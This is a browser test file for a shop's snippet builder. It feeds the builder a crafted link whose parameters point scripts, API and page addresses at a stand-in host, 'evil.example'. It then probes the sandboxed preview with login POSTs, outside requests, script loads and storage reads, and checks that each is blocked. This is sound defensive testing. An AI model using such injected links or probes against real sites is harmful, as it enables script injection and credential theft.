// The snippet builder on the shop's origin, opened through a link from a stranger.
import { expect, test } from 'vitest';
import { product } from '../../support/browser/drawer.ts';
import { eventually, openShop } from '../../support/browser/shop.ts';
import { FAILED_REQUEST } from '../../support/browser/visit.ts';

const shop = await openShop();

const EVIL = 'https://evil.example';
const LINK = `client=evil&api=${EVIL}&script=${EVIL}/pannier.js&site=${EVIL}&pages=${EVIL}/{slug}&returns=${EVIL}/r`;
const CHOICES = `header=toggle+login&width=phone&product=card+${product('lemon-bowl')}+lemon-bowl+Bowl`;

test('the builder ignores addresses, stores and scripts in its link, and lists what it ignored', async () => {
  const { page, requests } = await shop.openPage(`/builder/#${LINK}&${CHOICES}`, {
    expected: [FAILED_REQUEST],
  });
  await page.getByText('The store answers.').waitFor();
  await page.getByRole('status').getByText('The link also named a client id').waitFor();
  const snippet = page.getByRole('tabpanel', { name: 'Snippet' });
  expect(await snippet.textContent()).toContain(`${shop.assets}/pannier.js This builder’s own.`);
  const all = await page.locator('[data-block]').allTextContents();
  expect(all.join()).toContain('data-client-id="sandbox-client"');
  expect(all.join()).not.toContain('evil');
  expect(page.url()).not.toContain('evil');

  await page.getByText('Where the files and the platform are').click();
  await page.getByLabel('Address of pannier.js').fill(`${EVIL}/pannier.js`);
  await snippet.getByText('Not this builder’s own. It was typed here.').waitFor();
  // The builder requests only the manifest, which contains the hash of pannier.js. No code from the typed address runs.
  await eventually(() => requests().filter((each) => each.includes('evil'))).toEqual([
    `GET ${EVIL}/manifest.json`,
  ]);
}, 30_000);

test('the builder’s preview has an opaque origin, no login and only our scripts, and can add to the cart', async () => {
  const { page, requests, platformCalls } = await shop.openPage(`/builder/#${LINK}&${CHOICES}`, {
    expected: [FAILED_REQUEST, /allow-popups/, /policy directive|Content Security Policy|^policy:/],
  });
  const preview = page.frameLocator('iframe[title="Your choices on a page"]');
  await preview.locator('pannier-product').getByRole('button', { name: 'Add to cart' }).click();
  await preview.getByRole('dialog').getByText('€46.40').first().waitFor();
  await page.keyboard.press('Escape');

  const frame = page.frames().find((each) => each.url() === 'about:srcdoc');
  expect(await frame?.evaluate(() => self.origin)).toBe('null');
  const facts = await frame?.evaluate(
    async ([api, evil]) => {
      const statusOf = async (url: string) =>
        (await fetch(url, { method: 'POST', body: '{"password":"x"}' })).status;
      const script = document.createElement('script');
      script.src = `${api}/captcha/api.js`;
      const captcha = new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', () => resolve('blocked'));
        script.onload = () => resolve('loaded');
      });
      document.body.append(script);
      const isRead = (read: () => unknown): boolean => {
        try {
          return Boolean(read());
        } catch {
          return false;
        }
      };
      return {
        login: await statusOf(`${api}/_api/iam/authentication/v2/login`),
        elsewhere: await statusOf(`${evil}/stores/v3/products/query`),
        captcha: await captcha,
        readsStorage: isRead(() => localStorage),
        readsBuilder: isRead(() => parent.document),
      };
    },
    [shop.store, EVIL],
  );
  expect(facts).toEqual({
    login: 403,
    elsewhere: 403,
    captcha: 'blocked',
    readsStorage: false,
    readsBuilder: false,
  });

  const said = page.waitForEvent('console', (message) => message.text().includes('allow-popups'));
  await preview.locator('pannier-login').getByRole('button').click();
  await said;
  expect(await preview.locator('input[type=password]').count()).toBe(0);
  expect(platformCalls().filter((call) => call.includes('/_api/iam/'))).toEqual([]);
  expect(requests().filter((each) => each.includes('evil'))).toEqual([]);
  // Earlier versions of the builder had a page that read its settings from the URL. This page must no longer exist.
  expect((await page.request.get(`${shop.pages}/builder/host.html`)).status()).toBe(404);
}, 30_000);
